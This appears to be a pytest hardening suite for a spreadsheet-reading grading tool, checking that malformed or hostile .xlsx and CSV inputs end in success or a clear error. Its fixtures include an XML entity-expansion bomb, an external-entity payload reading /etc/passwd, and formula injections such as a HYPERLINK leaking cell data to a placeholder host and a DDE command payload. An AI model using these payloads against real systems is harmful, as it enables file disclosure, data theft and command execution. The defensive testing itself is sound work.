"""Hardening 2, spreadsheets: no workbook can hang, crash or fool exgen. Hand-zipped
workbooks (the XML as hostile or odd exporters write it) and openpyxl's own, read by
every command that takes a table: each ends in success or exit 2 naming the file and
the sheet, within a time limit, and what a spreadsheet program would take for a formula
is never written as one."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from conftest import EXGEN, ROOT

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"


def cell_xml(ref: str, value, style: int | None = None) -> str:
    s = f' s="{style}"' if style is not None else ""
    if isinstance(value, str):
        return f'<c r="{ref}" t="inlineStr"{s}><is><t>{value}</t></is></c>'
    return f'<c r="{ref}"{s}><v>{value}</v></c>'


def sheet_xml(rows: list[tuple[int, list[str]]], dimension: str = "", prolog: str = "") -> str:
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    body = "".join(f'<row r="{r}">{"".join(cells)}</row>' for r, cells in rows)
    return (f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet xmlns="{MAIN}">'
            f'{dim}<sheetData>{body}</sheetData></worksheet>')


STYLES = (f'<?xml version="1.0"?><styleSheet xmlns="{MAIN}"><cellXfs count="3">'
          '<xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="20"/></cellXfs></styleSheet>')


def workbook(path: Path, sheets: dict[str, str], styles: str = STYLES) -> Path:
    """An .xlsx zipped by hand: each sheet's XML as given."""
    entries = "".join(f'<sheet name="{name}" sheetId="{i}" r:id="rId{i}"/>'
                      for i, name in enumerate(sheets, start=1))
    rels = "".join(f'<Relationship Id="rId{i}" Type="{REL}/worksheet" '
                   f'Target="worksheets/sheet{i}.xml"/>' for i in range(1, len(sheets) + 1))
    rels += f'<Relationship Id="rIdS" Type="{REL}/styles" Target="styles.xml"/>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://'
                   'schemas.openxmlformats.org/package/2006/content-types"/>')
        z.writestr("_rels/.rels", f'<?xml version="1.0"?><Relationships xmlns="{PKG}">'
                   f'<Relationship Id="r1" Type="{REL}/officeDocument" '
                   'Target="xl/workbook.xml"/></Relationships>')
        z.writestr("xl/workbook.xml", f'<?xml version="1.0"?><workbook xmlns="{MAIN}" '
                   f'xmlns:r="{REL}"><sheets>{entries}</sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels",
                   f'<?xml version="1.0"?><Relationships xmlns="{PKG}">{rels}</Relationships>')
        z.writestr("xl/styles.xml", styles)
        for i, xml in enumerate(sheets.values(), start=1):
            z.writestr(f"xl/worksheets/sheet{i}.xml", xml)
    return path


@pytest.fixture(scope="module")
def build(tmp_path_factory):
    """A two-student Markdown build to grade against (ffn_dims is on every sheet)."""
    base = tmp_path_factory.mktemp("hostile")
    out = base / "B"
    result = subprocess.run([*EXGEN, "exams", "--seed", "1", "--students", "2", "--format",
                             "md", "--out", str(out)], capture_output=True, text=True,
                            cwd=ROOT)
    assert result.returncode == 0, result.stderr
    return out


def grade(build: Path, answers: Path, timeout: float = 60) -> subprocess.CompletedProcess:
    """exgen grade as a real process, within a time limit."""
    return subprocess.run([*EXGEN, "grade", "--seed", "1", "--answers", str(answers),
                           "--format", "md", "--build", str(build)],
                          capture_output=True, text=True, cwd=ROOT, timeout=timeout)


def answer_rows(*rows) -> list[tuple[int, list[str]]]:
    return [(1, [cell_xml("A1", "id"), cell_xml("B1", "ffn_dims.d_ff")])] + [
        (r, [cell_xml(f"A{r}", sid), value]) for r, (sid, value) in enumerate(rows, start=2)]


def test_a_declared_size_one_row_short_loses_no_student(build, tmp_path):
    path = workbook(tmp_path / "a.xlsx", {"answers": sheet_xml(
        answer_rows(("01", cell_xml("B2", 7)), ("02", cell_xml("B3", 9))),
        dimension="A1:B2")})
    result = grade(build, path)
    assert result.returncode == 0, result.stderr
    assert "absent" not in result.stdout + result.stderr
    rows = list(csv.DictReader(io.StringIO((build / "grades" / "grades.csv").read_text())))
    assert [r["grade"] != "absent" for r in rows] == [True, True]


def test_a_sheet_declaring_a_million_rows_for_one_far_cell_ends_at_once(build, tmp_path):
    rows = answer_rows(("01", cell_xml("B2", 7))) + [(1048576, [cell_xml("XFD1048576", 1)])]
    path = workbook(tmp_path / "huge.xlsx", {"answers": sheet_xml(
        rows, dimension="A1:XFD1048576")})
    result = grade(build, path, timeout=30)
    assert result.returncode == 2, result.stderr
    assert "huge.xlsx" in result.stderr and "sheet `answers`" in result.stderr
    assert "XFD1048576" in result.stderr and "Traceback" not in result.stderr


def test_the_same_far_cell_in_a_roster_ends_at_once(tmp_path):
    rows = [(1, [cell_xml("A1", "id")]), (2, [cell_xml("A2", "s1")]),
            (1048576, [cell_xml("XFD1048576", "x")])]
    path = workbook(tmp_path / "roster.xlsx", {"Sheet1": sheet_xml(rows)})
    result = subprocess.run([*EXGEN, "exams", "--seed", "1", "--roster", str(path),
                             "--format", "md", "--out", str(tmp_path / "out")],
                            capture_output=True, text=True, cwd=ROOT, timeout=30)
    assert result.returncode == 2 and "roster.xlsx" in result.stderr
    assert not (tmp_path / "out").exists()


BOMB = ('<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;'
        '&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;'
        '&lol2;&lol2;&lol2;&lol2;">]>')
EXTERNAL = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'


@pytest.mark.parametrize("name, xml", [
    ("truncated", sheet_xml(answer_rows(("01", cell_xml("B2", 7))))[:-40]),
    ("entity expansion", sheet_xml([(1, [cell_xml("A1", "id")]),
                                    (2, [cell_xml("A2", "&lol3;")])], prolog=BOMB)),
    ("external entity", sheet_xml([(1, [cell_xml("A1", "id")]),
                                   (2, [cell_xml("A2", "&xxe;")])], prolog=EXTERNAL)),
    ("undefined entity", sheet_xml([(1, [cell_xml("A1", "id")]),
                                    (2, [cell_xml("A2", "&nope;")])])),
    ("NaN", sheet_xml(answer_rows(("01", cell_xml("B2", "NaN").replace(
        't="inlineStr"', "").replace("<is><t>NaN</t></is>", "<v>NaN</v>"))))),
    ("a cell that is no cell", sheet_xml(answer_rows(("01", '<c r="B?"><v>1</v></c>')))),
    ("a shared text it does not hold", sheet_xml(answer_rows(
        ("01", '<c r="B2" t="s"><v>99</v></c>')))),
])
def test_a_sheet_that_does_not_parse_is_exit_2_naming_file_and_sheet(build, tmp_path, name,
                                                                     xml):
    path = workbook(tmp_path / "bad.xlsx", {"answers": xml})
    result = grade(build, path)
    assert result.returncode == 2, (name, result.stderr)
    assert "bad.xlsx" in result.stderr and "`answers`" in result.stderr, result.stderr
    assert "internal error" not in result.stderr and "root:" not in result.stderr


def test_a_date_or_time_excel_made_of_an_answer_is_named_not_scored_silently(build,
                                                                            tmp_path):
    path = workbook(tmp_path / "dates.xlsx", {"answers": sheet_xml(answer_rows(
        ("01", cell_xml("B2", 46145, style=1)), ("02", cell_xml("B3", 0.0625, style=2))))})
    result = grade(build, path)
    assert result.returncode == 0, result.stderr
    assert "row 2, column ffn_dims.d_ff (student 01): a date (2026-05-03)" in result.stderr
    assert "row 3, column ffn_dims.d_ff (student 02): a time (01:30)" in result.stderr
    report = (build / "grades" / "report.md").read_text(encoding="utf-8")
    assert "Excel е превърнал написаното в дата" in report
    assert "Excel е превърнал написаното в час" in report


def test_a_formula_saved_without_its_value_is_named(build, tmp_path):
    path = workbook(tmp_path / "f.xlsx", {"answers": sheet_xml(answer_rows(
        ("01", '<c r="B2"><f>2*1024</f></c>'), ("02", cell_xml("B3", 5))))})
    result = grade(build, path)
    assert result.returncode == 0, result.stderr
    assert "(student 01): a formula saved without its value" in result.stderr


def test_a_password_protected_workbook_or_old_xls_says_what_to_do(build, tmp_path):
    path = tmp_path / "locked.xlsx"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600))
    result = grade(build, path)
    assert result.returncode == 2 and "password-protected" in result.stderr
    assert "save it as .xlsx without a password" in result.stderr
    assert "quote" not in result.stderr


def test_an_opendocument_spreadsheet_is_refused_saying_how_to_save_it(build, tmp_path):
    path = tmp_path / "answers.ods"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    result = grade(build, path)
    assert result.returncode == 2 and ".ods" in result.stderr and ".xlsx" in result.stderr


def test_the_answers_sheet_is_read_whatever_sheet_comes_first(build, tmp_path):
    notes = sheet_xml([(1, [cell_xml("A1", "notes of the assistant")])])
    answers = sheet_xml(answer_rows(("01", cell_xml("B2", 7)), ("02", cell_xml("B3", 9))))
    path = workbook(tmp_path / "two.xlsx", {"Notes": notes, "answers": answers})
    assert grade(build, path).returncode == 0
    path = workbook(tmp_path / "named.xlsx", {"Notes": notes, "Sheet2": answers})
    assert grade(build, path).returncode == 0
    path = workbook(tmp_path / "none.xlsx", {"Notes": notes})
    result = grade(build, path)
    assert result.returncode == 2 and "sheet `Notes`" in result.stderr


def test_control_characters_in_an_answer_are_shown_and_named(build, tmp_path):
    answers = tmp_path / "ctl.csv"
    answers.write_text("id,ffn_dims.d_ff\n01,20\x0148\n02,\x7f\n", encoding="utf-8")
    result = grade(build, answers)
    assert result.returncode == 0, result.stderr
    assert "line 2, column ffn_dims.d_ff (student 01): control character(s) U+0001" \
        in result.stderr
    feedback = (build / "grades" / "feedback" / "01.md").read_text(encoding="utf-8")
    assert "\x01" not in feedback and "U+0001" in feedback


INJECTIONS = ['=HYPERLINK("http://example.invalid/?"&C2,"open")', "=cmd|' /C calc'!A0",
              "+A1", "@SUM(1+1)", "-2+3"]


def test_roster_names_never_become_live_formulas(tmp_path):
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, lineterminator="\n")
        writer.writerow(["id", "name"])
        writer.writerows([(f"s{i}", name) for i, name in enumerate(INJECTIONS)])
    out = tmp_path / "B"
    spec = ROOT / "exams" / "lecture5-quiz.toml"
    run = [*EXGEN, "exams", "--seed", "3", "--spec", str(spec), "--roster", str(roster),
           "--format", "md", "--out", str(out)]
    assert subprocess.run(run, capture_output=True, cwd=ROOT).returncode == 0
    sheet = openpyxl.load_workbook(out / "answers-template.xlsx")["answers"]
    names = {row[0].value: row[1] for row in sheet.iter_rows(min_row=3)}
    assert all(names[f"s{i}"].data_type == "s" and names[f"s{i}"].value == name
               for i, name in enumerate(INJECTIONS))
    template = subprocess.run([*EXGEN, "grade", "--seed", "3", "--spec", str(spec),
                               "--build", str(out), "--template"], capture_output=True,
                              text=True, cwd=ROOT).stdout
    for name in INJECTIONS:
        assert f"'{name}" in template or f"\"'{name}" in template.replace('""', '"')
    # Grades: xlsx cells are text, CSV cells guarded; exgen reads its own CSV back.
    answers = tmp_path / "answers.csv"
    lines = template.splitlines()
    answers.write_text("\n".join([lines[0]] + [line.replace(",,", ",4096,", 1)
                                               for line in lines[1:]]) + "\n",
                       encoding="utf-8")
    result = subprocess.run([*EXGEN, "grade", "--seed", "3", "--spec", str(spec), "--build",
                             str(out), "--answers", str(answers), "--format", "md"],
                            capture_output=True, text=True, cwd=ROOT)
    assert result.returncode == 0, result.stderr
    grades = openpyxl.load_workbook(out / "grades" / "grades.xlsx")["grades"]
    cells = [row[1] for row in grades.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted(INJECTIONS)
    assert all(c.data_type == "s" for c in cells)
    text = (out / "grades" / "grades.csv").read_text(encoding="utf-8")
    for row in csv.reader(io.StringIO(text)):
        assert not row[1].startswith(("=", "+", "-", "@")), row


@pytest.mark.parametrize("seed", range(12))
def test_random_workbooks_end_in_success_or_a_clear_exit_2(build, tmp_path, seed):
    """Mutated openpyxl workbooks: bytes flipped in the zip, a part truncated."""
    import random

    rng = random.Random(seed)
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "answers"
    sheet.append(["id", "ffn_dims.d_ff"])
    sheet.append(["01", rng.choice([2048, "2 048", "=1+1", None, 3.5])])
    sheet.append(["02", rng.choice(["x", 1e308, -0.0, "[1; 2]"])])
    buffer = io.BytesIO()
    book.save(buffer)
    data = bytearray(buffer.getvalue())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    victim = rng.choice(sorted(parts))
    content = bytearray(parts[victim])
    for _ in range(rng.randint(1, 4)):
        if content:
            content[rng.randrange(len(content))] = rng.randrange(256)
    if rng.random() < 0.5:
        content = content[:rng.randrange(len(content) + 1)]
    parts[victim] = bytes(content)
    path = tmp_path / "m.xlsx"
    with zipfile.ZipFile(path, "w") as target:
        for name, body in parts.items():
            target.writestr(name, body)
    result = grade(build, path, timeout=30)
    assert result.returncode in (0, 2), result.stderr
    assert "Traceback" not in result.stderr and "internal error" not in result.stderr
    if result.returncode == 2:
        assert "m.xlsx" in result.stderr
